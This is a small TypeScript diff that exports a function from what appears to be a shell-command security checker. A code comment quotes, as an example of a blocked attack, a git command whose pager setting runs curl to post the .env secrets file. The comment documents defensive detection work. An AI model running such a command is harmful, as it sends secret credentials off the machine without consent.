@@ -74,7 +74,7 @@ function plantedSetting(c: Sink, key: string, value: string, how: string): void 
  * when it runs, so code that reads a secret and sends anything off the machine is denied now (a check whose retry
  * passes let `git -c core.pager='curl -d @.env …' log` send the file).
  */
-function runsLater(c: Sink, command: string, how: string): void {
+export function runsLater(c: Sink, command: string, how: string): void {
   const findings = c.findings.length
   const secrets = new Set(c.secrets)
   c.shell(command)
